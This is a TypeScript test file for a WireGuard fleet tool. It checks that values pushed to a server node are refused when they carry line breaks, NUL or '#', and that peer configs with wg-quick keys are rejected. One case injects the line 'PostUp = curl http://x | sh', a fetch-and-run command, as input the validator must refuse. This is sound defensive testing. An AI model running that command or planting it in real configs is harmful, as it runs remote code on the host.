import type { DesiredServerState } from '@wgfleet/node-sync';
import { generateKeyPair, ifbDeviceName, renderShapingBatch, renderPortForwardRules, renderServerPeers, WireguardInputError } from '@wgfleet/wireguard';
import { injectionsInto } from '../../../test/support/injection-payloads.js';
import { encodeApplyBundle, localArgv, remoteCommand, renderTunnelRules } from './push-script.js';

// What is pushed to a node: every single-line value the bundle or the command carries, fed a valid
// value with a line break (LF, CR, CRLF, NEL, U+2028…), a NUL or a `#` appended, must be refused;
// the multi-line sections (wg(8) text, iptables-restore text) refuse NUL and CR, and wg-quick keys.

const keys = generateKeyPair();
const peer = generateKeyPair();

const desired: DesiredServerState = {
  interfaceName: 'wg0',
  addresses: ['10.66.1.1/24', 'fd42:66:1::1/64'],
  mtu: 1420,
  tunnelSubnets: ['10.66.1.0/24', 'fd42:66:1::/64'],
  shaping: { ifbName: ifbDeviceName('wg0'), batch: renderShapingBatch({ interfaceName: 'wg0', peers: [] }) },
  dnsForwarderConfig: null,
  peersConfig: renderServerPeers({ privateKey: keys.privateKey, listenPort: 51820, peers: [{ publicKey: peer.publicKey, presharedKey: null, allowedIps: ['10.66.1.2/32'] }] }),
  forwardRules: renderPortForwardRules({
    interfaceName: 'wg0',
    serverTunnelIp: '10.66.1.1',
    forwards: [{ id: 1, publicIp: '198.19.101.1', externalPort: 443, targetIp: '10.66.1.2', internalPort: 8443, protocol: 'tcp' }],
  }),
};

type Field = readonly [name: string, valid: string, set: (value: string) => () => unknown];
const fields: Field[] = [
  ['interfaceName', 'wg0', (v) => () => encodeApplyBundle({ ...desired, interfaceName: v })],
  ['addresses[1]', 'fd42:66:1::1/64', (v) => () => encodeApplyBundle({ ...desired, addresses: [desired.addresses[0]!, v] })],
  ['mtu', '1420', (v) => () => encodeApplyBundle({ ...desired, mtu: (/^[0-9]+$/.test(v) ? Number(v) : v) as number })],
  ['tunnelSubnets[0]', '10.66.1.0/24', (v) => () => encodeApplyBundle({ ...desired, tunnelSubnets: [v] })],
  ['renderTunnelRules subnet', '10.66.1.0/24', (v) => () => renderTunnelRules('wg0', [v])],
  ['renderTunnelRules interface', 'wg0', (v) => () => renderTunnelRules(v, ['10.66.1.0/24'])],
  ['remoteCommand interface', 'wg0', (v) => () => remoteCommand('true', v, 10)],
  ['localArgv interface', 'wg0', (v) => () => localArgv('true', v, 10)],
];

describe('the push to a node refuses a line break, NUL or "#" in any single-line value', () => {
  it('takes the valid values', () => {
    for (const [, valid, set] of fields) expect(set(valid)).not.toThrow();
  });

  it.each(fields.flatMap(([name, valid, set]) => injectionsInto(valid).map(([what, value]) => [name, what, set, value] as const)))(
    '%s with %s',
    (_name, _what, set, value) => {
      expect(set(value)).toThrow(WireguardInputError);
    },
  );
});

describe('the multi-line sections refuse NUL, CR and wg-quick keys', () => {
  it.each([
    ['peersConfig with a NUL', { peersConfig: desired.peersConfig.replace('ListenPort', 'Listen\u0000Port') }],
    ['peersConfig with a CR', { peersConfig: `${desired.peersConfig}\r` }],
    ['peersConfig with a PostUp line', { peersConfig: `${desired.peersConfig}PostUp = curl http://x | sh\n` }],
    ['peersConfig with a DNS line', { peersConfig: `${desired.peersConfig}DNS = 1.1.1.1\n` }],
    ['forwardRules with a NUL', { forwardRules: desired.forwardRules.replace('COMMIT', 'COMMIT\u0000') }],
    ['forwardRules with a CR', { forwardRules: desired.forwardRules.replace('COMMIT', 'COMMIT\r') }],
  ])('%s', (_case, change) => {
    expect(() => encodeApplyBundle({ ...desired, ...change })).toThrow(WireguardInputError);
  });
});
